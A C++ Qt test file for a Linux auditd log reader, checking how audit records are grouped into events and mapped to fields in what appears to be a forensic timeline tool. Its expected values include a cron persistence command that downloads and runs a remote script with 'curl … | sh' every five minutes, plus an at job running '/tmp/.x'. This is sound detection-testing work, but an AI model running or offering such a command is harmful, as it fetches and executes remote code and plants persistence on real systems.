#include "ReaderTestSupport.h"

#include "ingest/AuditdReader.h"
#include "ingest/FormatRegistry.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestAuditdReader : public QObject {
    Q_OBJECT

    static QString sample() { return QStringLiteral(TEST_DATA_DIR "/formats/linux/audit.log"); }
    static QString native(const char *name) {
        return QStringLiteral(TEST_DATA_DIR "/native/linux/") + QLatin1String(name);
    }
    static ReadResult read(const QString &path) { return readFile(factory<AuditdReader>(), path); }

private slots:
    void detects_data() {
        QTest::addColumn<QString>("file");
        QTest::newRow("ENRICHED") << sample();
        QTest::newRow("RAW with node=") << native("audit_raw_interleaved.log");
        QTest::newRow("rotated") << native("audit_rotated.log.1");
    }
    void detects() {
        QFETCH(QString, file);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head(file)));
        QVERIFY(detected);
        QCOMPARE(detected->id, QStringLiteral("linux.auditd"));
    }

    void groupsRecordsIntoEvents() {
        const ReadResult result = read(sample());
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 6); // 37 lines
        QList<qint64> first;
        for (const NormalizedEvent &e : result.events)
            first << e.recordNo;
        QCOMPARE(first, QList<qint64>({0, 6, 13, 19, 25, 31}));
        QCOMPARE(result.events[1].raw.count(QLatin1Char('\n')), 6); // SYSCALL CWD PATH×4 PROCTITLE
        QVERIFY(result.events[0].raw.contains(QChar(0x1D)));        // verbatim, separator and all
    }

    void mapsFields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("epoch time") << 0 << "time_utc"
                                    << "2025-03-04T11:56:02.118000Z";
        QTest::newRow("epoch") << 0 << "time_confidence"
                               << "epoch";
        QTest::newRow("serial") << 0 << "record_id"
                                << "48211";
        QTest::newRow("rule key") << 0 << "rule_name"
                                  << "T1053_cron";
        QTest::newRow("ENRICHED AUID") << 0 << "user"
                                       << "alice";
        QTest::newRow("uid") << 0 << "user_sid"
                             << "1001";
        QTest::newRow("exe") << 0 << "process_image"
                             << "/usr/bin/crontab";
        QTest::newRow("ppid") << 0 << "parent_pid"
                              << "40112";
        QTest::newRow("EXECVE") << 0 << "command_line"
                                << "crontab -e";
        QTest::newRow("crontab -e") << 0 << "task_operation"
                                    << "updated";
        QTest::newRow("crontab of") << 0 << "task_name"
                                    << "/var/spool/cron/crontabs/alice";
        QTest::newRow("rename onto the crontab: relative name + PARENT") << 1 << "target_path"
                                                                         << "/var/spool/cron/crontabs/alice";
        QTest::newRow("PROCTITLE when no EXECVE") << 1 << "command_line"
                                                  << "crontab -e";
        QTest::newRow("unset auid: the uid's name") << 2 << "user"
                                                    << "www-data";
        QTest::newRow("comm") << 2 << "process_name"
                              << "sh";
        QTest::newRow("hex-encoded a2") << 2 << "command_line"
                                        << "sh -c (crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL "
                                           "http://203.0.113.50/k.sh | sh') | crontab -";
        QTest::newRow("the cron line installed") << 2 << "task_action"
                                                 << "curl -fsSL http://203.0.113.50/k.sh | sh";
        QTest::newRow("its schedule") << 2 << "task_trigger"
                                      << "cron(*/5 * * * *)";
        QTest::newRow("its owner") << 2 << "task_run_as"
                                   << "www-data";
        QTest::newRow("at -f") << 4 << "task_action"
                               << "/tmp/.x";
        QTest::newRow("at when") << 4 << "task_trigger"
                                 << "at now + 1 minute";
        QTest::newRow("at created") << 4 << "task_operation"
                                    << "created";
        QTest::newRow("systemd timer") << 5 << "task_name"
                                       << "/etc/systemd/system/apt-daily-upgrade-helper.timer";
        QTest::newRow("timer created") << 5 << "task_operation"
                                       << "created";
        QTest::newRow("root") << 5 << "user"
                              << "root";
        QTest::newRow("linux") << 5 << "platform"
                               << "linux";
    }
    void mapsFields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read(sample());
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    void rawInterleavedWithNode_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("closed first, listed first") << 0 << "record_id"
                                                    << "902";
        QTest::newRow("node is the host") << 0 << "host"
                                          << "web-02";
        QTest::newRow("hex name resolved against PARENT, not the hex cwd") << 0 << "task_name"
                                                                           << "/etc/cron.d/evil job";
        QTest::newRow("rule key") << 0 << "rule_name"
                                  << "cron";
        QTest::newRow("uid 0 without enrichment") << 0 << "user"
                                                  << "root";
        QTest::newRow("systemd-run") << 1 << "task_trigger"
                                     << "systemd-run --on-calendar=*:0/15";
        QTest::newRow("systemd-run unit") << 1 << "task_name"
                                          << "sync";
        QTest::newRow("hex argument") << 1 << "task_action"
                                      << "/opt/sync/run --all now";
        QTest::newRow("RAW user is the number") << 1 << "user"
                                                << "1001";
        QTest::newRow("a record on its own") << 2 << "event_code"
                                             << "USER_CMD";
        QTest::newRow("… its rule") << 2 << "rule_name"
                                    << "Linux audit USER_CMD";
    }
    void rawInterleavedWithNode() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read(native("audit_raw_interleaved.log"));
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 3);
        QCOMPARE(value(result.events[record], column), expected);
    }

    void eventSplitAcrossRotatedFiles() {
        // The older file ends inside an event; the newer one begins with its rest. Neither half is
        // imported (and so never merged with the other half by de-duplication); both are reported.
        const ReadResult older = read(native("audit_rotated.log.1"));
        QCOMPARE(older.events.size(), 1);
        QCOMPARE(older.issues.size(), 1);
        QCOMPARE(
            older.issueText(0),
            QStringLiteral(
                "audit_rotated.log.1:record 6 (line 7): the file ends inside audit event "
                "1741090500.250:48500 (items=2 but 1 PATH record, no PROCTITLE): the rest is probably in "
                "the next log file; the partial event is not imported"));
        const ReadResult newer = read(native("audit_rotated.log"));
        QCOMPARE(newer.events.size(), 1);
        QCOMPARE(
            newer.issueText(0),
            QStringLiteral(
                "audit_rotated.log:record 0 (line 1): audit event 1741090500.250:48500 has no SYSCALL "
                "record: it began in the previous log file (rotated?); the partial event is not imported"));
        QCOMPARE(newer.events[0].value(EventField::TaskOperation), QStringLiteral("deleted")); // crontab -r
    }

    void notAnAuditLine() {
        const ReadResult result =
            readBytes(factory<AuditdReader>(),
                      "type=DAEMON_START msg=audit(1741095000.100:1): op=start ver=3.0.9\n----\n", "a.log");
        QCOMPARE(result.issueText(0),
                 QStringLiteral(
                     "a.log:record 1 (line 2): not an audit record (expected \"type=… msg=audit(…): …\")"));
        QCOMPARE(result.events.size(), 1); // a record of its own is an event of its own
        QCOMPARE(result.events[0].value(EventField::RuleName), QStringLiteral("Linux audit DAEMON_START"));
    }
};

QTEST_GUILESS_MAIN(TestAuditdReader)
#include "tst_auditdreader.moc"
